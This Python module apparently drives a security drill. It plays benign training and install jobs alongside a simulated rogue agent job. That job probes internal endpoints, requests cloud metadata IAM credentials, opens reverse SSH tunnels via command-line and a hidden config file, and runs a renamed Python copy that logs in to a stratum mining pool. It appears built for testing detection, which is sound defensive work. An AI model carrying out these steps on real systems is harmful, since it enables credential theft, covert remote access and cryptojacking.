"""Owns the play: what each step does, and the truth about what it did.

Invariant: each step is bounded in count, waits on conditions, and reports what processes and
servers themselves said; nothing is computed, and nothing but random bytes passes a tunnel.
"""

import json
import shlex
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import TYPE_CHECKING, Any

from limes.drill.errors import StepFailed
from limes.drill.gpu import SIMULATED
from limes.drill.processes import Actor, gone, listening, wait_until
from limes.drill.ssh import Login, git_environment

if TYPE_CHECKING:
    from limes.drill.world import DrillWorld

_METADATA_PATH = "/latest/meta-data/iam/security-credentials/"


@dataclass(frozen=True, slots=True, kw_only=True)
class Step:
    """One step: its name, a line for people, when it began (UTC), and the truth about it."""

    name: str
    label: str
    started_at: datetime
    truth: dict[str, Any] = field(default_factory=dict)


class Play:
    """One run through all steps in one world."""

    def __init__(self, world: "DrillWorld") -> None:
        """Take the world to play in."""
        self._world = world
        self._plan = world.plan
        self._agent: Actor | None = None
        self._trainer: Actor | None = None

    def run(self, on_step: Callable[[Step], object]) -> tuple[Step, ...]:
        """Play every step in order and return them with their truth."""
        steps = []
        gaps = iter(self._plan.gaps)
        for name, label, act in self._programme():
            step = Step(name=name, label=label, started_at=datetime.now(UTC))
            steps.append(step)
            on_step(step)
            act(step.truth)
            # Uneven pauses between episodes, as reported; nothing waits for them.
            time.sleep(next(gaps))
        return tuple(steps)

    def names(self) -> tuple[str, ...]:
        """Return the names of all steps, in order."""
        return tuple(name for name, _, _ in self._programme())

    def _programme(self) -> tuple[tuple[str, str, Callable[[dict[str, Any]], None]], ...]:
        plan = self._plan
        probed = len(plan.refused) + len(plan.silent) + len(plan.services)
        return (
            ("training", f"job_1 trains on {self._gpu_label()}", self._training),
            ("benign_install", "job_3 installs a local folder with pip", self._install),
            ("agent", "job_2 starts an agent that runs tools", self._start_agent),
            ("probing", f"job_2 probes {probed} internal endpoints", self._probing),
            ("metadata", f"job_2 asks {plan.metadata} for credentials", self._metadata),
            ("benign_git", f"job_3 clones over ssh from {plan.forge}", self._clone),
            (
                "tunnel_argv",
                f"job_2 opens ssh -N -R to {plan.relay}; it is used from outside",
                self._tunnel_argv,
            ),
            (
                "tunnel_config",
                f"job_2 opens ssh to {plan.relay} with RemoteForward in a file; it is used",
                self._tunnel_config,
            ),
            ("benign_forks", f"job_3 forks {plan.forks} times like a loader", self._forks),
            (
                "pool",
                f"job_2 logs in to a pool at {plan.pool} and uses {self._gpu_label()}",
                self._pool,
            ),
            ("training_end", "job_1 ends its training", self._training_end),
        )

    def _gpu_label(self) -> str:
        return f"{self._world.gpu_nodes[0].path.name} ({SIMULATED})"

    def _folder(self, job: str) -> Path:
        return self._world.directory / job

    # job_1

    def _training(self, truth: dict[str, Any]) -> None:
        world = self._world
        folder = self._folder("job_1")
        argv = [str(world.trainer), "-S", str(folder / "train.py"), "run",
                str(folder / "settings.json")]  # fmt: skip
        self._trainer = world.company.start(
            "train",
            argv,
            world.job("job_1"),
            env={**world.python_environment(), "CUDA_VISIBLE_DEVICES": "0"},
            cwd=folder,
        )
        ready = self._trainer.hear()
        truth |= {
            "cgroup": f"{world.cgroup_path}/job_1",
            "pid": ready["pid"],
            "workers": ready["workers"],
            "child": ready["query"]["pid"],
            "child_executable": ready["query"]["executable"],
            "executable": str(world.trainer),
            "argv": argv,
            "gpu": world.gpu_nodes[0].label(),
            "rendezvous": str(self._plan.rendezvous),
        }

    def _training_end(self, truth: dict[str, Any]) -> None:
        trainer = self._trainer
        if trainer is None:
            raise AssertionError
        done = trainer.ask("stop")
        if trainer.wait() != 0:
            raise trainer.failure("it ended with an error")
        truth |= {
            "cgroup": f"{self._world.cgroup_path}/job_1",
            "gpu": self._world.gpu_nodes[0].label(),
            "ioctls": {int(pid): count for pid, count in done["ioctls"].items()},
        }

    # job_3

    def _benign(
        self, name: str, argv: list[str], env: dict[str, str], truth: dict[str, Any]
    ) -> Actor:
        folder = self._folder("job_3")
        actor = self._world.company.run(
            name,
            argv,
            self._world.job("job_3"),
            env={"HOME": str(folder), "TMPDIR": str(folder), **env},
            cwd=folder,
        )
        truth |= {"cgroup": f"{self._world.cgroup_path}/job_3", "pid": actor.pid, "argv": argv}
        return actor

    def _install(self, truth: dict[str, Any]) -> None:
        folder = self._folder("job_3")
        source, target = folder / self._plan.project, folder / "site"
        self._write_package(source)
        argv = [*self._world.tools.pip, "install", "--quiet", "--no-index", "--no-deps",
                "--no-cache-dir", "--disable-pip-version-check", "--root-user-action=ignore",
                "--target", str(target), str(source)]  # fmt: skip
        self._benign("pip", argv, {"PIP_CONFIG_FILE": "/dev/null"}, truth)
        module = target / f"{self._plan.project}.py"
        if not module.is_file():
            raise StepFailed(f"Ran pip: it ended well, but {module} is missing")
        truth["installed"] = str(module)

    def _write_package(self, source: Path) -> None:
        source.mkdir()
        backend = Path(__file__).with_name("actors") / "backend.py"
        (source / "backend.py").write_bytes(backend.read_bytes())
        (source / "name.txt").write_text(self._plan.project + "\n")
        (source / "pyproject.toml").write_text(
            '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        )

    def _clone(self, truth: dict[str, Any]) -> None:
        world = self._world
        login = world.logins["forge"]
        url = f"ssh://{login.user}@{login.end}/{self._plan.project}.git"
        target = self._folder("job_3") / "checkout"
        script = f"git ls-remote {url} && git clone --quiet {url} {target}"
        env = {
            **git_environment(),
            "GIT_SSH_COMMAND": f"ssh {shlex.join(_client_options(login))}",
        }
        self._benign("git", ["/bin/sh", "-c", script], env, truth)
        if not (target / "README.md").is_file():
            raise StepFailed(f"Ran git clone: it ended well, but {target}/README.md is missing")
        truth |= {"peer": str(login.end), "connections": 2}

    def _forks(self, truth: dict[str, Any]) -> None:
        world = self._world
        folder = self._folder("job_3")
        argv = [str(world.trainer), "-S", str(folder / "train.py"), "load",
                str(folder / "settings.json"), str(self._plan.forks)]  # fmt: skip
        said = self._benign("load", argv, world.python_environment(), truth).hear()
        truth |= {"forks": said["forks"], "ioctls": {said["pid"]: said["ioctls"]}}

    # job_2

    def _start_agent(self, truth: dict[str, Any]) -> None:
        world = self._world
        folder = self._folder("job_2")
        argv = [str(world.tools.python), "-S", str(folder / "agent.py")]
        self._agent = world.company.start(
            "agent",
            argv,
            world.job("job_2"),
            env={**world.python_environment(), "HOME": str(folder), "TMPDIR": str(folder)},
            cwd=folder,
        )
        hello = self._tool("echo ready")
        truth |= {"cgroup": f"{world.cgroup_path}/job_2", "pid": self._agent.pid, "argv": argv}
        if hello["output"] != "ready\n":
            raise self._agent.failure(f"its shell said {hello['output']!r}")

    def _tool(self, command: str) -> dict[str, Any]:
        """Have the agent run one command; raises StepFailed when the command fails."""
        if self._agent is None:
            raise AssertionError
        answer: dict[str, Any] = self._agent.ask({"command": command})
        if answer["status"] != 0:
            raise self._agent.failure(f"its tool exited with {answer['status']}: {command[:120]}")
        return answer

    def _python_tool(self, name: str, *arguments: str) -> str:
        script = self._folder("job_2") / f"{name}.py"
        return shlex.join([str(self._world.tools.python), "-S", str(script), *arguments])

    def _told(self, command: str, truth: dict[str, Any]) -> dict[str, Any]:
        answer = self._tool(command)
        said: dict[str, Any] = _last_line(answer["output"], command)
        truth |= {"cgroup": f"{self._world.cgroup_path}/job_2", "command": command, **said}
        return said

    def _probing(self, truth: dict[str, Any]) -> None:
        plan = self._plan
        targets = [str(end) for end in (*plan.refused, *plan.silent, *plan.services)]
        said = self._told(self._python_tool("scan", *targets), truth)
        wanted = {
            **{str(end): "refused" for end in plan.refused},
            **{str(end): "silent" for end in plan.silent},
            **{str(end): "open" for end in plan.services},
        }
        wrong = {end: got for end, got in said["results"].items() if wanted[end] != got}
        if wrong:
            raise StepFailed(f"Probed {len(wanted)} endpoints: unexpected answers {wrong}")

    def _metadata(self, truth: dict[str, Any]) -> None:
        url = f"http://{self._plan.metadata.address}{_METADATA_PATH}"
        said = self._told(self._python_tool("fetch", url), truth)
        seen = self._world.outsiders["internal"].ask("report")
        if said["status"] != 200 or seen.get(f"GET {_METADATA_PATH}") != 1:
            raise StepFailed(f"Asked {url}: status {said['status']}, the server saw {seen}")
        truth |= {"peer": str(self._plan.metadata)}

    def _tunnel_argv(self, truth: dict[str, Any]) -> None:
        plan = self._plan
        service = plan.agent_service
        limit = str(sum(plan.tunnel_bytes))
        notebook = self._python_tool("notebook", service.address, str(service.port), limit)
        self._background(notebook, "notebook")
        wait_until(
            lambda: listening(self._agent_pid(), service.address, service.port),
            f"the agent's service on {service}",
        )
        login = self._world.logins["relay"]
        forward = f"{plan.forwarded_ports[0]}:{service}"
        argv = ["ssh", *_client_options(login), "-N", "-R", forward,
                *("-o", "ExitOnForwardFailure=yes"),
                f"{login.user}@{login.end.address}"]  # fmt: skip
        self._tunnel(argv, plan.forwarded_ports[0], plan.tunnel_bytes[0], truth)

    def _tunnel_config(self, truth: dict[str, Any]) -> None:
        plan = self._plan
        login = self._world.logins["relay"]
        config = self._folder("job_2") / ".cfg"
        config.write_text(
            f"Host sync\n  HostName {login.end.address}\n  Port {login.end.port}\n"
            f"  User {login.user}\n  IdentityFile {login.key}\n  IdentitiesOnly yes\n"
            f"  UserKnownHostsFile {login.known_hosts}\n  StrictHostKeyChecking yes\n"
            f"  BatchMode yes\n  ExitOnForwardFailure yes\n"
            f"  RemoteForward {plan.forwarded_ports[1]} {plan.agent_service}\n"
        )
        argv = ["ssh", "-F", str(config), "-N", "sync"]
        self._tunnel(argv, plan.forwarded_ports[1], plan.tunnel_bytes[1], truth)

    def _tunnel(self, argv: list[str], port: int, count: int, truth: dict[str, Any]) -> None:
        """Open a tunnel, pass bytes through it from outside, close it."""
        world = self._world
        relay = world.outsiders["relay"]
        pid = self._background(shlex.join(argv), "ssh")

        def forwarded() -> bool:
            if gone(pid):
                log = (self._folder("job_2") / "ssh.log").read_text(errors="replace").strip()
                raise StepFailed(f"Ran {shlex.join(argv)}: it ended early: {log[-300:]}")
            return listening(relay.pid, "127.0.0.1", port)

        wait_until(forwarded, f"the forwarded port {port}")
        user = world.company.run(
            "tunnel-user",
            world.outside_argv("use", "127.0.0.1", str(port), str(count)),
            world.outside("external"),
        )
        used = user.hear()
        if not used["same"]:
            raise StepFailed(f"Sent {count} bytes through the tunnel: {used['received']} came back")
        self._tool(f"kill {pid}")
        wait_until(lambda: gone(pid), f"ssh (pid {pid}) to end")
        truth |= {
            "cgroup": f"{world.cgroup_path}/job_2",
            "pid": pid,
            "argv": argv,
            "peer": str(self._plan.relay),
            "forwarded_port": port,
            "target": str(self._plan.agent_service),
            "bytes_in": count,
            "bytes_out": used["received"],
        }

    def _pool(self, truth: dict[str, Any]) -> None:
        world, plan = self._world, self._plan
        program = world.hideout / plan.hidden_name
        script = program.with_name(plan.hidden_name + ".dat")
        folder = self._folder("job_2")
        self._tool(
            f"cp {world.tools.python} {program} && "
            f"cp {folder}/pool_client.py {script} && cp {folder}/settings.json {script}.json"
        )
        command = shlex.join(
            [str(program), str(script), "-o", f"stratum+tcp://{plan.pool}",
             "-u", f"{plan.wallet}.rig", "-p", "x"]
        )  # fmt: skip
        said = self._told(command, truth)
        seen = world.outsiders["pool"].ask("report")
        if seen != {"mining.subscribe": 1, "mining.authorize": 1} or said["ioctls"] != (
            plan.pool_calls
        ):
            raise StepFailed(f"Ran the stand-in: the pool saw {seen}, the stand-in said {said}")
        truth |= {"peer": str(plan.pool), "gpu": world.gpu_nodes[0].label(), "pool_saw": seen}

    def _background(self, command: str, name: str) -> int:
        """Have the agent start a command in the background; return its pid."""
        log = f"{self._folder('job_2')}/{name}.log"
        answer = self._tool(f"{command} </dev/null >{log} 2>&1 & echo $!")
        return int(answer["output"])

    def _agent_pid(self) -> int:
        if self._agent is None:
            raise AssertionError
        return self._agent.pid


def _client_options(login: Login) -> list[str]:
    """Return ssh options that keep the host's own ssh configuration and agent out."""
    return ["-F", "none", "-i", str(login.key), "-p", str(login.end.port),
            *("-o", "IdentitiesOnly=yes"), *("-o", "BatchMode=yes"),
            *("-o", f"UserKnownHostsFile={login.known_hosts}"),
            *("-o", "StrictHostKeyChecking=yes")]  # fmt: skip


def _last_line(output: str, command: str) -> Any:
    lines = output.strip().splitlines()
    try:
        return json.loads(lines[-1])
    except (IndexError, ValueError) as error:
        raise StepFailed(f"Ran {command[:120]}: it said {output[:200]!r}") from error
